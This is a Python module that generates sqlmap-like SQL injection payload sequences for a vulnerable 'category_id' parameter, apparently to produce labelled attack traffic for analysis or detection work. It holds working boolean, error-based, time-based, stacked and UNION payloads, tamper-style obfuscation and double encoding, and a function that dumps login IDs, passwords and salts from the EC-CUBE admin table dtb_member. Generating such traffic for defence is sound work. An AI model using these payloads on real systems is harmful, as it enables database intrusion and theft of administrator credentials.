"""sqlmap-like injection payloads for the vulnerable ``category_id`` parameter.

Each campaign is a list of ``(decoded_payload, encoding, kind)``; ``encoding`` is how the value is
put on the wire (``url``, ``plus``, ``double``), ``kind`` the technique (for truth and docs).
"""

from __future__ import annotations

import random
from urllib.parse import quote

_MARK_L = ["0x716b787a71", "0x7176626271", "0x717a706a71"]
_HEUR = "()\",.'"
_MARK_R = ["0x7170787671", "0x716a6b7671", "0x7178716271"]


def _rnd_word(rng: random.Random, n: int = 4) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(n))


def _randcase(rng: random.Random, s: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def _base_payloads(rng: random.Random, base: str, stage: str) -> str:
    n, m, k = rng.randint(1000, 9999), rng.randint(1000, 9999), rng.randint(1000, 9999)
    ml, mr = rng.choice(_MARK_L), rng.choice(_MARK_R)
    w = _rnd_word(rng)
    if stage == "heuristic":
        return rng.choice([
            base + "".join(rng.choice(_HEUR) for _ in range(rng.randint(4, 8))),
            base + "'" + w + "<'\">" + _rnd_word(rng, 6),
            f"{base} AND {n}={n}", f"{base}'",
        ])
    if stage == "boolean":
        return rng.choice([
            f"{base} AND {n}={n}", f"{base} AND {n}={m}", f"{base}) AND {n}={n} AND ({k}={k}",
            f"{base}) AND {n}={m} AND ({k}={k}", f"{base}' AND '{w}'='{w}", f"{base}' AND '{w}'='{_rnd_word(rng)}",
            f"{base} AND {n}={n}-- {w}", f"{base} OR NOT {n}={m}", f"{base} AND {n}={n}#",
            f"{base} RLIKE (SELECT (CASE WHEN ({n}={n}) THEN {base} ELSE 0x28 END))",
        ])
    if stage == "error":
        return rng.choice([
            f"{base} AND EXTRACTVALUE({n},CONCAT(0x5c,{ml},(SELECT (ELT({n}={n},1))),{mr}))",
            f"{base} AND UPDATEXML({n},CONCAT(0x2e,{ml},(SELECT (ELT({n}={n},1))),{mr}),{m})",
            f"{base} AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({ml},(SELECT (ELT({n}={n},1))),{mr},"
            f"FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
            f"{base} OR EXTRACTVALUE({n},CONCAT(0x5c,{ml},(SELECT (ELT({n}={n},1))),{mr}))",
        ])
    if stage == "time":
        return rng.choice([
            f"{base} AND SLEEP(5)", f"{base} AND (SELECT {n} FROM (SELECT(SLEEP(5)))" + _rnd_word(rng) + ")",
            f"{base} AND {n}=BENCHMARK(5000000,MD5(0x{_rnd_word(rng).encode().hex()}))",
            f"{base} OR SLEEP(5)#", f"{base}) AND SLEEP(5) AND ({k}={k}",
        ])
    if stage == "stacked":
        return rng.choice([
            f"{base};SELECT SLEEP(5)#", f"{base};SELECT BENCHMARK(5000000,MD5(0x{_rnd_word(rng).encode().hex()}))#",
            f"{base};SELECT SLEEP(5)-- {w}",
        ])
    if stage == "union_cols":
        cols = rng.randint(1, 10)
        return rng.choice([
            f"{base} ORDER BY {cols}-- {w}",
            f"{base} UNION ALL SELECT " + ",".join(["NULL"] * cols) + "-- " + w,
            f"{base} UNION ALL SELECT " + ",".join(["NULL"] * (cols - 1) + [f"CONCAT({ml},0x{w.encode().hex()},{mr})"]) + "#",
        ])
    raise ValueError(stage)


def _extraction(rng: random.Random, base: str) -> list[str]:
    """UNION- and error-based dumping of the admin table dtb_member (login_id, password)."""
    ml, mr = "0x716b787a71", "0x7170787671"
    out = [
        f"{base} UNION ALL SELECT NULL,NULL,CONCAT({ml},IFNULL(CAST(DATABASE() AS CHAR),0x20),{mr}),NULL,NULL,NULL,NULL-- -",
        f"{base} UNION ALL SELECT NULL,NULL,CONCAT({ml},IFNULL(CAST(COUNT(table_name) AS CHAR),0x20),{mr}),NULL,NULL,NULL,NULL "
        f"FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN (0x65636375626564625f6462)-- -",
    ]
    for i in range(0, 24, 4):
        out.append(f"{base} UNION ALL SELECT NULL,NULL,CONCAT({ml},IFNULL(CAST(table_name AS CHAR),0x20),{mr}),NULL,NULL,NULL,NULL "
                   f"FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN (0x65636375626564625f6462) LIMIT {i},4-- -")
    out.append(f"{base} UNION ALL SELECT NULL,NULL,CONCAT({ml},IFNULL(CAST(column_name AS CHAR),0x20),0x6e7a7a6b75,"
               f"IFNULL(CAST(column_type AS CHAR),0x20),{mr}),NULL,NULL,NULL,NULL FROM INFORMATION_SCHEMA.COLUMNS "
               f"WHERE table_name=0x6474625f6d656d626572 AND table_schema=0x65636375626564625f6462-- -")
    out.append(f"{base} AND EXTRACTVALUE(7211,CONCAT(0x5c,{ml},(SELECT MID((IFNULL(CAST(COUNT(*) AS CHAR),0x20)),1,21) "
               f"FROM eccube_db.dtb_member),{mr}))")
    for i in range(3):
        out.append(f"{base} UNION ALL SELECT NULL,NULL,CONCAT({ml},IFNULL(CAST(login_id AS CHAR),0x20),0x6e7a7a6b75,"
                   f"IFNULL(CAST(password AS CHAR),0x20),0x6e7a7a6b75,IFNULL(CAST(salt AS CHAR),0x20),{mr}),NULL,NULL,NULL,NULL "
                   f"FROM eccube_db.dtb_member ORDER BY member_id LIMIT {i},1-- -")
        for part in range(1, 64, 21):
            out.append(f"{base} AND UPDATEXML(3314,CONCAT(0x2e,{ml},(SELECT MID((IFNULL(CAST(password AS CHAR),0x20)),{part},21) "
                       f"FROM eccube_db.dtb_member ORDER BY member_id LIMIT {i},1),{mr}),2260)")
    return out


def campaign(rng: random.Random, *, base: str, n: int, style: str) -> list[tuple[str, str, str]]:
    """Payload sequence of one attacker session.

    ``style``: ``sqlmap`` (plain sqlmap), ``tamper`` (space2comment + randomcase, some double-encoded),
    ``manual`` (browser, ``+`` for spaces, ends with the dtb_member dump).
    """
    stages = [("heuristic", 6), ("boolean", 0.32), ("error", 0.18), ("time", 0.16), ("stacked", 0.06),
              ("union_cols", 0.28)]
    rest = n - 6
    seq: list[tuple[str, str]] = []
    for stage, share in stages:
        cnt = share if isinstance(share, int) else int(rest * share)
        seq.extend((stage, _base_payloads(rng, base, stage)) for _ in range(cnt))
    if style == "manual":
        seq.extend(("union", p) for p in _extraction(rng, base))
    out = []
    for stage, p in seq:
        enc = "url"
        if style == "tamper":
            p = p.replace(" ", "/**/")
            p = " ".join(_randcase(rng, w) if w.isalpha() and w.isupper() else w for w in p.split(" "))
            for kw in ("AND", "SELECT", "UNION", "ALL", "SLEEP", "ORDER", "FROM", "CONCAT"):
                if kw in p and rng.random() < 0.5:
                    p = p.replace(kw, _randcase(rng, kw))
            enc = "double" if rng.random() < 0.12 else "url"
        elif style == "manual":
            enc = "plus" if rng.random() < 0.7 else "url"
        out.append((p, enc, stage))
    return out


def encode(payload: str, enc: str) -> str:
    if enc == "plus":
        return quote(payload, safe="(),*").replace("%20", "+")
    once = quote(payload, safe="(),*")
    if enc == "double":
        return once.replace("%", "%25")
    return once


def as_received(payload: str, enc: str) -> str:
    """What PHP hands the application after one round of decoding."""
    return encode(payload, "url") if enc == "double" else payload
